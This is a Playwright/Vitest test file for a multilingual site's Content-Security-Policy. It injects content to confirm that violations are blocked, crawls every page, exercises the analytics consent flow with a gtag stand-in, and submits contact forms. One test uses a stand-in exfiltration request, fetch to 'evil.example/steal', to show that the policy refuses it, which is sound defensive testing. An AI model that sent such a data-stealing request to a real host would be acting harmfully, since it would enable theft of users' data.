/**
 * The Content-Security-Policy the build writes to `_headers`, enforced by the test server as a
 * host would send it: Chromium must report no violation on any page, through the consent flow
 * with analytics accepted, and through every form's submission.
 */
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { consentCookies, hydrated, loaderRan, newContext, turnToForm } from '../helpers/browser';
import { startFakePocketBase, type FakePocketBase } from '../helpers/fake-pocketbase';
import { browserSuite } from './setup';

const ENV = 'SITEGEN_POCKETBASE_URL';

let fake: FakePocketBase;

beforeAll(async () => {
  fake = await startFakePocketBase();
});
afterAll(async () => {
  await fake?.close();
});
// The forms post to the fake PocketBase: the build reads its URL from the environment.
const suite = browserSuite({ env: () => ({ [ENV]: fake.url }) });

interface Watched {
  context: BrowserContext;
  /** `<page url>: <directive> blocked <what>`, from the event and from the console. */
  violations: string[];
  /** Every request to a host other than 127.0.0.1 that the policy let through. */
  outside: string[];
}

/**
 * The stand-in for gtag.js: it reaches the hosts the real tag sends hits to (the collect
 * endpoint by fetch and beacon, a region host, the pixel on the tag host).
 */
const GTAG_STAND_IN = `
  fetch('https://region1.google-analytics.com/g/collect?v=2&tid=G-K7B3X9Q2LM&en=page_view', { method: 'POST', mode: 'no-cors', keepalive: true });
  navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-K7B3X9Q2LM&en=user_engagement');
  fetch('https://region1.analytics.google.com/g/collect?v=2&tid=G-K7B3X9Q2LM&en=scroll', { method: 'POST', mode: 'no-cors' });
  new Image().src = 'https://www.googletagmanager.com/td?id=G-K7B3X9Q2LM';
  window.__gtagStandIn = true;
`;

/** A browser context whose pages report every CSP violation, and whose other hosts answer locally. */
async function watchedContext(options: { consent?: 'none' | 'rejected' | 'analytics' } = {}): Promise<Watched> {
  const context = await newContext(suite.browser);
  const violations: string[] = [];
  const outside: string[] = [];
  await context.exposeBinding('__cspViolation', ({ page }, text: string) => void violations.push(`${page.url()}: ${text}`));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { __cspViolation(text: string): void }).__cspViolation(`${event.effectiveDirective} blocked ${event.blockedURI} ${event.sample}`);
    });
  });
  context.on('console', (message) => {
    // Also the Permissions-Policy: a feature Chromium does not know is a console error on every page.
    if (/Content.Security.Policy|Refused to|Permissions.Policy|feature/i.test(message.text())) violations.push(`${message.page()?.url()}: console: ${message.text()}`);
  });
  await context.route(
    (url) => url.hostname !== '127.0.0.1',
    (route) => {
      const url = route.request().url();
      outside.push(url);
      if (url.includes('/gtag/js')) return route.fulfill({ status: 200, contentType: 'text/javascript', body: GTAG_STAND_IN });
      return route.fulfill({ status: 204, body: '' });
    },
  );
  if (options.consent && options.consent !== 'none') {
    await context.addCookies(consentCookies(suite.server.url, options.consent === 'analytics' ? ['analytics'] : []));
  }
  return { context, violations, outside };
}

/**
 * Opens a page as a first-time visitor: the loader runs and the banner shows. With `interact`,
 * the language menu hydrates (React) and opens too.
 */
async function visit(page: Page, urlPath: string, interact: boolean): Promise<void> {
  await page.goto(suite.server.url + urlPath);
  await page.locator('.consent-banner').waitFor();
  // The banner shows before the first paint now; the menu hydrates once the loader listens.
  await loaderRan(page);
  if (!interact) return;
  await page.locator('.language-menu').first().hover();
  await hydrated(page, 'LocaleSwitcher');
  await page.locator('.language-menu summary').first().click();
}

describe('the Content-Security-Policy in Chromium', () => {
  it('is enforced: an injected inline script, a style attribute and a request elsewhere are reported and blocked', async () => {
    const { context, violations } = await watchedContext();
    const page = await context.newPage();
    await page.goto(`${suite.server.url}/career`);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<p style="color: red" id="styled">x</p>');
      const fetched = await fetch('https://evil.example/steal').then(
        () => 'sent',
        () => 'refused',
      );
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {
        injected: (window as unknown as { __injected?: boolean }).__injected === true,
        color: getComputedStyle(document.getElementById('styled')!).color,
        fetched,
      };
    });
    expect(outcome).toEqual({ injected: false, color: expect.not.stringMatching(/^rgb\(255, 0, 0\)$/), fetched: 'refused' });
    const events = violations.filter((text) => !text.includes('console:'));
    expect(events.map((text) => text.split(': ')[1]!.split(' ')[0])).toEqual(expect.arrayContaining(['script-src-elem', 'style-src-attr', 'connect-src']));
    await context.close();
  });

  it('raises no violation on any page in any locale (and the error pages)', async () => {
    const { context, violations } = await watchedContext();
    const urls = [...suite.site.pages.map((plan) => plan.url), '/404.html', '/error.html', '/hu/nincs-ilyen-oldal'];
    expect(urls.length).toBeGreaterThan(130);
    const queue = [...urls];
    const visited: string[] = [];
    // The menu is the same island everywhere: hydrating it once per template and locale is enough.
    const interacted = new Set<string>();
    const interactOn = (url: string) => {
      const plan = suite.site.pages.find((candidate) => candidate.url === url);
      const key = plan ? `${plan.template} ${plan.locale}` : url;
      if (interacted.has(key)) return false;
      interacted.add(key);
      return true;
    };
    // Three tabs at a time: one page's wait overlaps another's work.
    await Promise.all(
      [1, 2, 3].map(async () => {
        const page = await context.newPage();
        page.setDefaultTimeout(10_000);
        for (let url = queue.shift(); url !== undefined; url = queue.shift()) {
          await visit(page, url, interactOn(url));
          visited.push(url);
        }
        await page.close();
      }),
    );
    expect(visited).toHaveLength(urls.length);
    expect(violations).toEqual([]);
    await context.close();
  }, 240_000);

  it('raises none through the consent flow with analytics accepted, and lets the analytics tag reach its hosts', async () => {
    const { context, violations, outside } = await watchedContext();
    const page = await context.newPage();
    await page.goto(`${suite.server.url}/hu/blog`);
    await page.locator('.consent-banner').waitFor();
    await page.click('.consent-banner .consent-button >> nth=0');
    await expect.poll(() => page.evaluate(() => (window as unknown as { __gtagStandIn?: boolean }).__gtagStandIn === true)).toBe(true);
    await expect.poll(() => outside.length).toBe(5);
    expect(outside.map((url) => new URL(url).host).sort()).toEqual([
      'region1.analytics.google.com',
      'region1.google-analytics.com',
      'www.google-analytics.com',
      'www.googletagmanager.com',
      'www.googletagmanager.com',
    ]);
    // The settings dialog (a React island), a change of mind, and a later visit.
    await page.click('a[href="#cookie-settings"]');
    await page.waitForSelector('dialog.consent-dialog[open]');
    await page.locator('dialog.consent-dialog input[name="analytics"]').uncheck();
    await page.locator('dialog.consent-dialog button[type="submit"]').click();
    await page.goto(`${suite.server.url}/de/karriere`);
    await page.waitForTimeout(500);
    expect(violations).toEqual([]);
    await context.close();
  });

  it('raises none when each form is sent to the configured PocketBase', async () => {
    const { context, violations } = await watchedContext({ consent: 'rejected' });
    const page = await context.newPage();
    page.setDefaultTimeout(10_000);
    const forms = [
      { url: '/contact', island: 'ContactForm', landing: '/successful-contact' },
      { url: '/hu/kapcsolat', island: 'ContactForm', landing: '/hu/sikeres-bekuldes' },
      { url: '/clickup-onboarding/contact', island: 'ContactForm', landing: '/successful-contact' },
      { url: '/offer', island: 'OfferForm', landing: '/successful-contact' },
    ];
    fake.setOutcome('ok');
    for (const form of forms) {
      await page.goto(suite.server.url + form.url);
      await page.locator('#form').scrollIntoViewIfNeeded();
      await turnToForm(page);
      await hydrated(page, form.island);
      const field = (name: string) => page.locator(`#form [name="${name}"]`);
      if (form.island === 'OfferForm') {
        await field('services').and(page.locator('[value="it-outsourcing"]')).check();
        await field('budget').selectOption('5k-15k');
        await field('timeline').selectOption('1-3-months');
        await field('description').fill('We need our ClickUp workspace set up for 40 people.');
      } else {
        await field('message').fill('Hello, we would like to talk about a project.');
      }
      await field('name').fill('Ada Lovelace');
      await field('email').fill('ada@example.com');
      await field('privacy').check();
      // The form drops sends within 3 s of loading as a bot's.
      await page.waitForFunction(() => performance.now() > 3100);
      await Promise.all([page.waitForURL(suite.server.url + form.landing), page.locator('#form button[type="submit"]').click()]);
      await page.waitForLoadState('load');
    }
    expect(fake.requests.filter((request) => request.method === 'POST')).toHaveLength(forms.length);
    expect(violations).toEqual([]);
    await context.close();
  });
});
